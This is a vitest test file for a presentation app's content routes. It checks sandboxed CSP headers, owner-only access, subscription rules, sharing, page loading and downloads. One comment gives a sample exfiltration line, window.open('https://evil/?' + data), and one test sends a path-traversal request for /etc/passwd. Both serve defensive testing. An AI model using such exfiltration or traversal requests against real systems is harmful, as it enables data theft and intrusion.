import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { DOCUMENT_PAGE_GENERATOR, repairHtml } from '@pitchcraft/core';
import { eq, generations, presentations, userProfiles, users } from '@pitchcraft/db';

import { createTestServer, signUpOverHttp, type TestServer } from '../testing';
import { PRESENTATION_CSP, servedPresentation } from './presentation-content';

let server: TestServer;
let ownerCookie: string;
let intruderCookie: string;
let ownerId: string;

const HTML = `<!DOCTYPE html><html><head><script src="/assets/chart.umd.js"></script><link rel="stylesheet" href="/assets/inter.css"></head><body><section><h2>Plan</h2><canvas id="c"></canvas></section></body></html>`;

async function userIdOf(email: string) {
  const [row] = await server.database.db.select().from(users).where(eq(users.email, email));
  return row!.id;
}

async function subscribe(userId: string) {
  await server.database.db
    .update(userProfiles)
    .set({ subscriptionStatus: 'trialing' })
    .where(eq(userProfiles.userId, userId));
}

beforeAll(async () => {
  server = await createTestServer();
  ownerCookie = await signUpOverHttp(server.app, 'owner@example.com');
  intruderCookie = await signUpOverHttp(server.app, 'intruder@example.com');
  ownerId = await userIdOf('owner@example.com');
  await subscribe(ownerId);
  await subscribe(await userIdOf('intruder@example.com'));
  await server.database.db.insert(generations).values({
    id: 'gen-1',
    userId: ownerId,
    provider: 'offline',
    status: 'succeeded',
    html: HTML,
    input: { client: { clientName: 'Maria Rivera' } },
  });
  await server.database.db.insert(presentations).values({
    id: 'pres-1',
    userId: ownerId,
    title: 'Life Insurance Recommendations for Maria Rivera',
    clientName: 'Maria Rivera',
    clientData: {},
    salesStrategy: {},
    htmlContent: HTML,
  });
});
afterAll(async () => {
  await server.close();
});

const get = (url: string, cookie?: string) =>
  server.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });

describe('content routes', () => {
  it('serve the owner’s HTML in a CSP sandbox without same-origin', async () => {
    for (const url of ['/content/generations/gen-1', '/content/presentations/pres-1']) {
      const response = await get(url, ownerCookie);
      expect(response.statusCode, url).toBe(200);
      expect(response.body).toBe(servedPresentation(HTML));
      const csp = String(response.headers['content-security-policy']);
      expect(csp).toBe(PRESENTATION_CSP);
      expect(csp).toMatch(/^sandbox allow-scripts allow-modals;/);
      expect(csp).not.toContain('allow-same-origin');
      // A pop-up escapes the sandbox's connect-src and form-action: window.open('https://evil/?' + data).
      expect(csp).not.toContain('allow-popups');
      expect(csp).toContain("connect-src 'none'");
      expect(csp).toContain("form-action 'none'");
    }
  });

  it('answer 404 to strangers and other users alike', async () => {
    for (const url of [
      '/content/generations/gen-1',
      '/content/presentations/pres-1',
      '/content/shared/pres-1',
      '/content/presentations/pres-1/download',
    ]) {
      expect((await get(url)).statusCode, `${url} anonymous`).toBe(404);
      expect((await get(url, intruderCookie)).statusCode, `${url} intruder`).toBe(404);
    }
    expect((await get('/content/../etc/passwd')).statusCode).toBe(404);
  });

  it('keep a saved presentation readable to its owner after the subscription ends, but not a generation', async () => {
    await server.database.db
      .update(userProfiles)
      .set({ subscriptionStatus: 'canceled', cancellationReason: 'user_cancelled' })
      .where(eq(userProfiles.userId, ownerId));
    try {
      // Their records: the page, an earlier version's page and the download (recordsProcedure's rule).
      expect((await get('/content/presentations/pres-1', ownerCookie)).statusCode).toBe(200);
      expect((await get('/content/presentations/pres-1/download', ownerCookie)).statusCode).toBe(
        200,
      );
      // Generating stays subscribed: the wizard's pages are not theirs to open now.
      expect((await get('/content/generations/gen-1', ownerCookie)).statusCode).toBe(404);
      expect((await get('/content/generations/gen-1/download', ownerCookie)).statusCode).toBe(404);
      // Still nobody else's.
      expect((await get('/content/presentations/pres-1', intruderCookie)).statusCode).toBe(404);
    } finally {
      await subscribe(ownerId);
    }
  });

  it('serve a shared presentation to anyone only while sharing is on', async () => {
    await server.database.db
      .update(presentations)
      .set({ shareEnabled: true })
      .where(eq(presentations.id, 'pres-1'));
    const shared = await get('/content/shared/pres-1');
    expect(shared.statusCode).toBe(200);
    expect(shared.headers['content-security-policy']).toBe(PRESENTATION_CSP);
    expect(shared.headers['content-security-policy']).not.toContain('allow-popups');
    await server.database.db
      .update(presentations)
      .set({ shareEnabled: false })
      .where(eq(presentations.id, 'pres-1'));
    expect((await get('/content/shared/pres-1')).statusCode).toBe(404);
  });

  it('serve a page that needs nothing but itself before its first screen is painted', async () => {
    // A document page as the repairs store it: font preloads, the Inter stylesheet, Chart.js.
    const stored = repairHtml(
      `<!DOCTYPE html><html><head><meta name="generator" content="${DOCUMENT_PAGE_GENERATOR} 1"><title>Plan</title><style>body{margin:0}</style></head><body><main><section id="cover" class="pc-section pc-cover"><h2>Your plan</h2></section><section id="costs" class="pc-section"><h2>Costs</h2><canvas></canvas></section></main></body></html>`,
    );
    expect(stored).toContain('<link rel="stylesheet" href="/assets/inter.css">');
    expect(stored).toMatch(/<link rel="preload" href="\/assets\/fonts\/[^"]+" as="font"/);
    await server.database.db.insert(presentations).values({
      id: 'doc-1',
      userId: ownerId,
      title: 'Plan',
      clientName: 'Maria Rivera',
      clientData: {},
      salesStrategy: {},
      htmlContent: stored,
      shareEnabled: true,
    });
    const served = (await get('/content/shared/doc-1')).body;
    const head = served.slice(0, served.indexOf('</head>'));
    // No stylesheet to fetch (a round trip, and the parser waits for it at the runtime's script), no
    // font preload in the head (Chrome holds the first paint for it), no script that runs before
    // the page is parsed.
    expect(served).not.toMatch(/<link\b[^>]*rel="stylesheet"/);
    expect(head).not.toMatch(/<link\b[^>]*rel="preload"/);
    // The fonts are still preloaded, from the end of the body, where nothing waits for them.
    const preloads = served.slice(served.lastIndexOf('</section>'), served.indexOf('</body>'));
    expect(
      preloads.match(/<link rel="preload" href="\/assets\/fonts\/[^"]+" as="font"/g),
    ).toHaveLength(stored.match(/rel="preload"/g)!.length);
    for (const [script] of head.matchAll(/<script\b[^>]*\bsrc=[^>]*>/g))
      expect(script).toMatch(/\b(?:defer|async)\b/);
    // Inter is still the page's face, from the same files, shown when they arrive.
    expect(head).toContain("src:url(/assets/fonts/inter-latin-400-normal.woff2) format('woff2')");
    expect(head).toContain('font-display:swap');
    // The heading and the runtime are all there, in the order they were stored.
    expect(served).toContain('<section id="cover" class="pc-section pc-cover"><h2>Your plan</h2>');
    expect(served.match(/data-pitchcraft-runtime/g)).toHaveLength(1);
  });

  it('download a self-contained file named after the client', async () => {
    const response = await get('/content/generations/gen-1/download', ownerCookie);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toBe(
      'attachment; filename="maria-rivera-insurance-recommendations.html"',
    );
    expect(response.body).not.toContain('src="/assets/chart.umd.js"');
    expect(response.body).not.toContain('href="/assets/inter.css"');
    expect(response.body).not.toContain('/assets/fonts/');
    expect(response.body).toContain('@font-face');
    expect(response.body.length).toBeGreaterThan(100_000);
    const presentation = await get('/content/presentations/pres-1/download', ownerCookie);
    expect(presentation.headers['content-disposition']).toBe(
      'attachment; filename="maria-rivera-insurance-presentation.html"',
    );
  });
});
